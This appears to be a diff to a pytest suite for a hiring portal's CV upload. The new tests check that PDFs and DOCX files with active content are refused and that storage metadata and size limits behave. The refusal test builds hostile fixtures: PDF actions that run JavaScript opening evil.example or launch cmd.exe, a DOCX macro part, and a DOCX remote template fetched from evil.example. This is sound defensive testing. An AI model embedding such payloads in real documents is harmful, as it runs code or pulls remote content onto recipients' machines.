@@ -13,7 +13,8 @@ from portal.hiring import process
 from portal.hiring import services as hiring
 from portal.hiring.models import Application
 from portal.timeutil import utcnow
-from tests.helpers import PDF, login, outbox, race
+from tests.helpers import PDF, field_error, login, outbox, race
+from tests.storage.documents import MACRO_MAIN, docx, pdf, relationship
 
 ANSWERS = {"motivation": "I want to build fair hiring.", "proud_of": "A migration with zero downtime.",
            "link": "https://example.com/me"}
@@ -72,7 +73,7 @@ def test_candidate_applies_with_pdf_and_sees_the_tracker(app, candidate_client, 
 
 def test_docx_cv_is_accepted(app, candidate_client, factory):
     assert _apply(candidate_client, factory.position(), _docx(), "My CV.docx").status_code == 302
-    assert db.session.scalars(select(Application)).one().cv_filename == "My CV.docx"
+    assert db.session.scalars(select(Application)).one().cv_file.name == "My CV.docx"
 
 
 @pytest.mark.parametrize("content, filename, message", [
@@ -114,6 +115,54 @@ def test_cv_over_10_mb_is_refused(app, candidate_client, factory):
     response = _apply(candidate_client, position, far_over)
     assert response.status_code == 413 and "too large" in response.get_data(as_text=True)
     assert _applications() == 0 and _stored_files(app) == []
+
+
+@pytest.mark.parametrize("content, filename, message", [
+    (pdf(catalog=b"/OpenAction<</S/JavaScript/JS(app.launchURL('https://evil.example'))>>"), "cv.pdf",
+     "The PDF contains scripts"),
+    (pdf(catalog=b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "cv.pdf", "starts a program"),
+    (docx(main=MACRO_MAIN, parts={"word/vbaProject.bin": b"x"}), "cv.docx", "The document contains macros"),
+    (docx(settings_relationships=[relationship("rId1", "attachedTemplate", "https://evil.example/t.dotm",
+                                               external=True)]), "cv.docx", "loads content from elsewhere"),
+], ids=["pdf-javascript", "pdf-launch", "docx-macro", "docx-remote-template"])
+def test_cv_with_active_content_is_refused_next_to_the_field_and_leaves_nothing(
+        app, candidate_client, factory, content, filename, message):
+    response = _apply(candidate_client, factory.position(), content, filename)
+    page = response.get_data(as_text=True)
+    assert response.status_code == 422
+    assert message in field_error(page, "cv")
+    assert ANSWERS["motivation"] in page
+    assert _applications() == 0 and _stored_files(app) == []
+
+
+def test_the_cv_is_kept_as_a_stored_file_of_the_candidate(app, candidate_client, factory):
+    import hashlib
+
+    content = docx("Ada Lovelace")
+    assert _apply(candidate_client, factory.position(), content, "Ada CV.docx").status_code == 302
+    cv = db.session.scalars(select(Application)).one().cv_file
+    assert (cv.owner_type, cv.owner_id, cv.created_by_id) == ("users", candidate_client.candidate.id,
+                                                            candidate_client.candidate.id)
+    assert (cv.kind, cv.name, cv.original_name, cv.size) == ("cv", "Ada CV.docx", "Ada CV.docx", len(content))
+    assert cv.sha256 == hashlib.sha256(content).hexdigest()
+    assert [p.read_bytes() for p in _stored_files(app)] == [content]
+
+
+def test_a_request_too_large_for_a_cv_names_the_cv_limit_not_the_largest(make_app, factory):
+    from portal.storage.kinds import MB, UploadKind
+
+    app = make_app(UPLOAD_KINDS={"cv": UploadKind("CV", ("pdf", "docx"), 1 * MB),
+                                 "bigger": UploadKind("Submission", ("pdf",), 5 * MB)})
+    assert app.config["MAX_CONTENT_LENGTH"] == 15 * MB
+    with app.app_context():
+        candidate, position = factory.candidate(), factory.position()
+        client = app.test_client()
+        login(client, candidate)
+        response = _apply(client, position, PDF + b"0" * (16 * MB))
+        page = response.get_data(as_text=True)
+        assert response.status_code == 413 and "1 MB" in page and "5 MB" not in page
+        response = _apply(client, position, PDF + b"0" * (2 * MB))
+        assert response.status_code == 422 and "larger than 1 MB" in field_error(response.get_data(as_text=True), "cv")
 
 
 def test_missing_answer_and_bad_link_are_reported_next_to_the_field(app, candidate_client, factory):
